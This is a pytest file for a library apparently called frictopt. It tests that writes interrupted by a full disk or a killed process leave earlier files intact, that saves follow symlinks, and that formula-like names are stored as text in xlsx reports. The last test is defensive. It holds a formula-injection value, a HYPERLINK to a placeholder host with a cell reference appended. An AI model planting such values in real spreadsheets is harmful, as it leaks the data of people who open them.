"""Files that are written over good files on a full disk, or by a process that is killed."""

import os
import subprocess
import sys
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import numpy as np
import openpyxl
import pytest

import frictopt as fo
from helpers.command import main
from helpers.systems import CYCLE, random_system

resource = pytest.importorskip("resource")  # of Unix

SYSTEM = random_system(np.random.default_rng(3), 3)
REPORT = fo.report(SYSTEM, CYCLE, 0.5, pages=1, progress=False)
# Ending of a file -> the function that writes it.
WRITERS = {
    "npz": SYSTEM.save,
    "limit.npz": fo.shakedown_limit(SYSTEM, CYCLE, 0.5).save,
    "html": REPORT.save,
    "json": REPORT.save,
    "xlsx": REPORT.save,
}


@contextmanager
def full_disk(file):
    """No file may have more than 100 bytes; a workbook is put together from larger ones."""
    most = 4000 if str(file).endswith("xlsx") else 100
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (most, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


def contents(folder):
    return {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("ending", WRITERS)
def test_a_full_disk_leaves_the_files_of_before(ending, tmp_path):
    write, file = WRITERS[ending], tmp_path / f"good.{ending}"
    write(file)
    file.chmod(0o640)
    before = contents(tmp_path)
    with full_disk(file), pytest.raises(fo.ModelError) as refused:
        write(file)
    assert str(refused.value).startswith(f"path: {str(file)!r} cannot be written (")
    assert "File too large" in str(refused.value) and "a disk with space" in str(refused.value)
    assert contents(tmp_path) == before
    write(file)
    assert contents(tmp_path).keys() == before.keys()
    assert file.stat().st_mode & 0o777 == 0o640


@pytest.mark.parametrize(
    "option", ["--table=a.csv", "--table=a.xlsx", "--table=a.parquet", "--picture=a.png"]
)
def test_a_full_disk_leaves_the_files_of_before_a_command(option, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    SYSTEM.save("system.npz")
    assert main(["look", "system.npz", option]) == 0
    before = contents(tmp_path)
    with full_disk(option):
        code = main(["look", "system.npz", option])
    assert code == 4 and "cannot be written" in capsys.readouterr().err
    assert contents(tmp_path) == before


def test_a_process_that_is_killed_while_it_writes_leaves_the_file_of_before(tmp_path):
    """The system kills a process that writes more than it may, if this is not ignored."""
    SYSTEM.save(tmp_path / "good.npz")
    before = (tmp_path / "good.npz").read_bytes()
    script = (
        "import resource, signal, sys, frictopt as fo\n"
        "system = fo.ContactSystem.load(sys.argv[1])\n"
        "signal.signal(signal.SIGXFSZ, signal.SIG_DFL)\n"
        "resource.setrlimit(resource.RLIMIT_CORE, (0, 0))\n"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))\n"
        "system.save(sys.argv[1])\n"
    )
    folder = str(Path(fo.__file__).parents[1])
    run = subprocess.run(
        [sys.executable, "-c", script, tmp_path / "good.npz"],
        env=os.environ | {"PYTHONPATH": folder},
        timeout=300,
    )
    assert run.returncode < 0 and (tmp_path / "good.npz").read_bytes() == before


def test_a_link_leads_to_the_new_file(tmp_path):
    (tmp_path / "far").mkdir()
    (tmp_path / "link.npz").symlink_to(tmp_path / "far" / "system.npz")
    SYSTEM.save(tmp_path / "link.npz")
    assert (tmp_path / "link.npz").is_symlink()
    assert fo.ContactSystem.load(tmp_path / "far" / "system.npz").nodes == 3


def test_a_name_that_begins_like_a_formula_is_a_text_in_a_workbook(tmp_path):
    name = '=HYPERLINK("http://x.invalid/?"&A1)'
    named = replace(SYSTEM, contact=[name, "b", "b"])
    fo.report(named, CYCLE, 0.5, pages=1, progress=False).save(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    cells = [cell for sheet in book for row in sheet for cell in row if cell.value == name]
    assert {cell.data_type for cell in cells} == {"s"}
